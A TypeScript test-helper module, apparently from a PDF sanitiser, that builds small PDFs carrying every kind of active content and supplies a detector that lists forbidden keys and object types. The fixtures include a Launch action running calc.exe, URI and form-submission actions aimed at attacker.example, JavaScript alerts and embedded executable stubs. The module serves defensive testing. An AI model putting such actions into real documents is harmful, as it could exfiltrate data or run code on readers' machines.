import { PDF, PdfArray, PdfDict, PdfName, type PdfObject, PdfRef, PdfStream } from '@libpdf/core';
import { handMadePdf, streamOf } from './hand-made-pdf.js';

interface Parts {
  catalog?: string;
  page?: string;
  resources?: string;
  content?: string;
  /** From object 5. */
  objects?: readonly string[];
}

/** A PDF of one page, with these entries in its catalog and page. */
export function pdfWith({ catalog = '', page = '', resources = '', content = 'q Q', objects = [] }: Parts): Buffer {
  return handMadePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << ${resources} >> /Contents 4 0 R ${page} >>`,
    streamOf(content),
    ...objects,
  ]);
}

const file = '<< /Type /Filespec /F (other.pdf) /UF (other.pdf) >>';
const embedded = ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', streamOf('MZ', '/Type /EmbeddedFile')];
const appearance = streamOf('0 0 9 9 re f', '/Type /XObject /Subtype /Form /BBox [0 0 9 9]');
const rendition = `<< /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D ${file} >> >>`;

/** Every type of action (ISO 32000-2, table 201). */
export const actions: Readonly<Record<string, string>> = {
  GoTo: '/D [3 0 R /Fit]',
  GoToR: `/F ${file} /D [0 /Fit]`,
  GoToE: `/F ${file} /D (x) /T << /R /C /N (a) >>`,
  GoToDp: '/Dp << /Type /DPart >>',
  Launch: '/F (calc.exe) /Win << /F (calc.exe) >>',
  Thread: '/D 0',
  URI: '/URI (https://attacker.example/open)',
  Sound: `/Sound ${'5 0 R'}`,
  Movie: '/T (movie) /Operation /Play',
  Hide: '/T (field) /H true',
  Named: '/N /Print',
  SubmitForm: '/F << /FS /URL /F (https://attacker.example/form) >>',
  ResetForm: '/Fields []',
  ImportData: `/F ${file}`,
  JavaScript: '/JS (app.alert("x"))',
  SetOCGState: '/State [/OFF 5 0 R]',
  Rendition: `/R ${rendition} /OP 0`,
  Trans: '/Trans << /S /Dissolve >>',
  GoTo3DView: '/TA 5 0 R /V /F',
  RichMediaExecute: '/TA 5 0 R /CMD << /C (play) >>',
};
const action = (type: string) => `<< /Type /Action /S /${type} ${actions[type]} >>`;

/** Every place where an action can be. */
const places: Readonly<Record<string, (action: string) => Parts>> = {
  'when the file is opened': (it) => ({ catalog: `/OpenAction ${it}` }),
  'in the catalog': (it) => ({ catalog: `/AA << /WC ${it} >>` }),
  'among its names': (it) => ({ catalog: `/Names << /JavaScript << /Names [(a) ${it}] >> >>` }),
  'when a page is opened and closed': (it) => ({ page: `/AA << /O ${it} /C ${it} >>` }),
  'in a link': (it) => ({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${it} /PA ${it} >>]` }),
  'in a note': (it) => ({
    page: '/Annots [5 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /F 4 /A ${it} /AA << /PV ${it} >> /AP << /N 6 0 R >> >>`,
      appearance,
    ],
  }),
  'in a bookmark': (it) => ({
    catalog: '/Outlines 5 0 R',
    objects: ['<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>', `<< /Title (x) /Parent 5 0 R /A ${it} >>`],
  }),
  'in a form field': (it) => ({
    catalog: '/AcroForm << /Fields [5 0 R] >>',
    page: '/Annots [5 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] /F 4 /P 3 0 R /AA << /K ${it} /C ${it} >> /A ${it} /AP << /N 6 0 R >> >>`,
      appearance,
    ],
  }),
  'in what follows another': (it) => ({ page: `/AA << /O << /S /GoTo /D [3 0 R /Fit] /Next [${it}] >> >>` }),
  'in a page of the tree': (it) => ({ page: `/Parent 2 0 R /PieceInfo << /App << /Private ${it} >> >>` }),
};

const annotation = (entries: string, objects: readonly string[] = []): Parts => ({
  page: '/Annots [5 0 R]',
  objects: [`<< /Type /Annot /Rect [0 0 9 9] /F 4 ${entries} >>`, ...objects],
});
const drawn = (entries: string, objects: readonly string[] = []): Parts => ({
  content: '/X Do',
  resources: '/XObject << /X 5 0 R >>',
  objects: [streamOf('0 0 9 9 re f', `/Type /XObject /BBox [0 0 9 9] ${entries}`), ...objects],
});
const picture = (entries: string, objects: readonly string[] = []): Parts => ({
  content: '/X Do',
  resources: '/XObject << /X 5 0 R >>',
  objects: [
    streamOf(
      'a',
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ${entries}`,
    ),
    ...objects,
  ],
});

const others: Readonly<Record<string, Parts>> = {
  'a base of addresses': { catalog: '/URI << /Base (https://attacker.example/) >>' },
  'files inside the file': { catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', objects: embedded },
  'files of the catalog': { catalog: '/AF [5 0 R]', objects: embedded },
  'files of a page': { page: '/AF [5 0 R]', objects: embedded },
  'files of a drawing': drawn('/Subtype /Form /AF [6 0 R]', [embedded[0]!.replace('6 0 R', '7 0 R'), embedded[1]!]),
  'files of a font': {
    resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /AF [5 0 R] >> >>',
    objects: embedded,
  },
  'files of marked content': {
    content: '/AF /P BDC EMC',
    resources: '/Properties << /P << /AF [5 0 R] >> >>',
    objects: embedded,
  },
  'files at a note': annotation('/Subtype /FileAttachment /FS 6 0 R', [
    embedded[0]!.replace('6 0 R', '7 0 R'),
    embedded[1]!,
  ]),
  'a collection': { catalog: '/Collection << /Type /Collection /View /D >>' },
  requirements: { catalog: '/Requirements [<< /Type /Requirement /S /EnableJavaScripts >>]' },
  extensions: { catalog: '/Extensions << /ADBE << /BaseVersion /1.7 /ExtensionLevel 8 >> >>' },
  'data of a validation': { catalog: '/DSS << /Type /DSS /Certs [] >>' },
  'rights of use': { catalog: '/Perms << /UR3 << /Type /Sig >> >>' },
  'a statement of what it contains': { catalog: '/Legal << /JavaScriptActions 1 >>' },
  'a form of XML': { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [streamOf('<xdp/>')] },
  'threads and beads': {
    catalog: '/Threads [<< /F 5 0 R >>]',
    page: '/B [5 0 R]',
    objects: ['<< /Type /Bead /R [0 0 9 9] >>'],
  },
  layers: {
    catalog: '/OCProperties << /OCGs [5 0 R] /D << /ON [5 0 R] >> >>',
    content: '/OC /L BDC 0 0 9 9 re f EMC',
    resources: '/Properties << /L 5 0 R >>',
    objects: ['<< /Type /OCG /Name (Layer) /Usage << /Print << /PrintState /ON >> >> >>'],
  },
  'layers of a drawing': drawn('/Subtype /Form /OC 6 0 R', ['<< /Type /OCG /Name (Layer) >>']),
  'layers of a picture': picture('/OC 6 0 R', ['<< /Type /OCMD /OCGs [7 0 R] >>', '<< /Type /OCG /Name (Layer) >>']),
  'a transition of a page': { page: '/Trans << /Type /Trans /S /Fly >> /Dur 1 /PresSteps << /Type /NavNode >>' },
  'a thumbnail': { page: '/Thumb 5 0 R', objects: picture('').objects! },
  'private data of a program': {
    page: '/PieceInfo << /App << /LastModified (D:2026) /Private (x) >> >> /LastModified (D:2026)',
  },
  'private data in a drawing': drawn('/Subtype /Form /PieceInfo << /App << /Private (x) >> >> /LastModified (D:2026)'),
  'metadata of a page': { page: '/Metadata 5 0 R', objects: [streamOf('<x/>', '/Type /Metadata /Subtype /XML')] },
  'metadata of a picture': picture('/Metadata 6 0 R', [streamOf('<x/>', '/Type /Metadata /Subtype /XML')]),
  'viewports and measures': {
    page: '/VP [<< /Type /Viewport /BBox [0 0 9 9] /Measure << /Type /Measure /Subtype /GEO >> >>]',
  },
  'data of a web capture': { page: '/ID (x) /PZ 1', catalog: '/SpiderInfo << /V 1 >>' },
  'data of separations': { page: '/SeparationInfo << /Pages [3 0 R] >>' },
  'parts of a printed product': { catalog: '/DPartRoot << /Type /DPartRoot >>', page: '/DPart << /Type /DPart >>' },
  'a reference to a page of another file': drawn(`/Subtype /Form /Ref << /F ${file} /Page 0 >>`),
  'a picture of another server': drawn('/Subtype /Form /OPI << /2.0 << /Type /OPI /Version 2.0 /F (x) >> >>'),
  'another picture for print': picture('/Alternates [<< /Image 6 0 R /DefaultForPrinting true >>]', [
    picture('').objects![0]!,
  ]),
  'a picture of another server in a picture': picture('/OPI << /1.3 << /Type /OPI /Version 1.3 /F (x) >> >>'),
  PostScript: drawn('/Subtype /PS'),
  'PostScript in a form': drawn('/Subtype /Form /Subtype2 /PS /PS 6 0 R', [streamOf('showpage')]),
  halftones: {
    content: '/G gs',
    resources:
      '/ExtGState << /G << /HT << /Type /Halftone /HalftoneType 1 /Frequency 1 /Angle 1 /SpotFunction /Round >> >> >>',
  },
  'structure of its own': {
    catalog: '/StructTreeRoot << /Type /StructTreeRoot /K [] /ClassMap << /X << /O /Foreign >> >> >>',
    page: '/StructParents 0',
    content: '/P <</MCID 0>> BDC EMC',
  },
  'a movie': annotation(`/Subtype /Movie /T (movie) /Movie << /F ${file} >> /AP << /N 6 0 R >>`, [appearance]),
  'a sound': annotation('/Subtype /Sound /Sound 6 0 R', [streamOf('a', '/Type /Sound /R 8000')]),
  'a screen': annotation('/Subtype /Screen /AP << /N 6 0 R >>', [appearance]),
  'three dimensions': annotation('/Subtype /3D /3DD 6 0 R /AP << /N 7 0 R >>', [
    streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R'),
    appearance,
    streamOf('x'),
  ]),
  'rich media': annotation(
    '/Subtype /RichMedia /RichMediaContent << /Assets << >> >> /RichMediaSettings << >> /AP << /N 6 0 R >>',
    [appearance],
  ),
  'a projection': annotation('/Subtype /Projection /ExData << /Type /ExData /Subtype /Markup3D >> /AP << /N 6 0 R >>', [
    appearance,
  ]),
  'a mark for printers': annotation('/Subtype /PrinterMark /AP << /N 6 0 R >>', [appearance]),
  'a network of traps': annotation('/Subtype /TrapNet /LastModified (D:2026) /AP << /N 6 0 R >>', [appearance]),
  'a redaction': annotation('/Subtype /Redact /OverlayText (x) /RO 6 0 R', [appearance]),
  'a watermark': annotation('/Subtype /Watermark /AP << /N 6 0 R >>', [appearance]),
};

/** Every kind of content that does something, or is not seen, by its name. */
export function activeFiles(): Array<[name: string, file: Buffer]> {
  const inPlaces = Object.entries(places).map(
    ([place, parts]) => [`JavaScript ${place}`, parts(action('JavaScript'))] as const,
  );
  const ofPages = Object.keys(actions).map(
    (type) => [`an action ${type} of a page`, places['when a page is opened and closed']!(action(type))] as const,
  );
  return [...inPlaces, ...ofPages, ...Object.entries(others)].map(([name, parts]) => [name, pdfWith(parts)]);
}

const forbiddenKeys = new Set(
  `OpenAction AA A PA JS JavaScript URI URIs EmbeddedFiles EF RF AF FS Collection Requirements Extensions DSS Perms Legal XFA AcroForm
  Threads B OC OCProperties OCGs Usage Trans Dur PresSteps Thumb PieceInfo LastModified VP Measure SpiderInfo PZ SeparationInfo DPartRoot DPart
  Ref OPI Alternates PS Subtype2 HT FFilter FDecodeParms Annots Movie Sound Rendition RichMediaContent RichMediaSettings 3DD ExData
  OnInstantiate ClassMap Win Popup SpecularColor`.split(/\s+/),
);
const forbiddenTypes = new Set(
  `Annot Action Filespec EmbeddedFile Rendition MediaClip OCG OCMD Bead Thread Trans NavNode Viewport Measure OPI Sound 3D ExData DPart
  Requirement Collection Halftone Metadata`.split(/\s+/),
);

/**
 * What does something in a file, or is not seen, by walking each of its objects, also those in object streams.
 *
 * @param own what the document itself has and may have
 */
export async function activeContentOf(bytes: Uint8Array, own: ReadonlySet<string> = new Set()): Promise<string[]> {
  const pdf = await PDF.load(bytes);
  const found: string[] = [];
  const report = (what: string) => {
    if (!own.has(what)) found.push(what);
  };
  const seen = new Set<PdfObject>();
  const walk = (object: PdfObject | null | undefined): void => {
    const value = object instanceof PdfRef ? pdf.getObject(object) : object;
    if (!value || seen.has(value)) return;
    if (value instanceof PdfDict || value instanceof PdfArray) seen.add(value);
    if (value instanceof PdfArray) for (const each of value) walk(each);
    if (!(value instanceof PdfDict)) return;
    for (const [key, each] of value) {
      if ((forbiddenKeys.has(key.value) || (key.value === 'Next' && value.has('S'))) && !isLayout(pdf, key.value, each))
        report(key.value);
      if (key.value === 'F' && value instanceof PdfStream) report('F of a stream');
      walk(each);
    }
    for (const key of ['Type', 'Subtype', 'S']) {
      const type = value.get(key);
      if (!(type instanceof PdfName)) continue;
      if (key === 'Type' && forbiddenTypes.has(type.value)) report(`Type ${type.value}`);
      if (key === 'S' && type.value in actions && !value.has('P')) report(`Action ${type.value}`);
      if (key === 'Subtype' && type.value === 'PS') report('Subtype PS');
    }
  };
  const [, size] = /\/Size (\d+)/.exec(Buffer.from(bytes).toString('latin1')) ?? [];
  for (let number = 1; number < Number(size); number += 1) walk(PdfRef.of(number, 0));
  return [...new Set(found)].sort();
}

/** The attributes of a figure among the tags have the key of an action. */
function isLayout(pdf: PDF, key: string, value: PdfObject): boolean {
  const found = value instanceof PdfRef ? pdf.getObject(value) : value;
  const each = found instanceof PdfArray ? [...found] : [found];
  return key === 'A' && each.every((one) => one instanceof PdfDict && one.has('O'));
}
